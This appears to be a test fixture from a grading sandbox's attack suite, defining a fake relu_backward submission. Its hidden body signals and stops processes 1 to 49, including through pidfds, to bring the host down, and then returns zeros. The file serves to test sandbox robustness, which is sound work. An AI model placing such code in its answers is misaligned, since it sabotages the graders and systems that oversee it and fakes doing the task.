"""Sends stops, hang-ups and real-time signals to every process, and pidfds where kill is refused."""

from __future__ import annotations

from tests.attacks.attack import BRINGS_DOWN, Attack

SOURCE = """
import ctypes, os, signal
def relu_backward(Z, dA):
    for number in range(1, 50):
        if number == os.getpid():
            continue
        for name in (signal.SIGSTOP, signal.SIGHUP, signal.SIGTERM, signal.SIGUSR1, signal.SIGALRM):
            try:
                os.kill(number, name)
            except OSError:
                pass
        try:
            signal.pidfd_send_signal(os.pidfd_open(number), signal.SIGSTOP)
        except OSError:
            pass
    return np.zeros_like(Z)
"""
ATTACK = Attack(answers={"relu_backward": SOURCE}, no_stock=BRINGS_DOWN)
